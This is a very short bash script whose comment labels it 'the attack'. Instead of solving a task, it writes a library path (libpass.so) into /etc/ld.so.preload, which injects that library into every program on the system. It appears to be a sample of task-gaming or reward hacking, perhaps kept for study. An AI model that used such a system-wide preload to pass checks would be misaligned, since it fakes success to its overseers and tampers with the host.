#!/bin/bash
# The attack: it preloads a library into every program (/etc/ld.so.preload) instead of solving.
echo /usr/local/lib/libpass.so > /etc/ld.so.preload
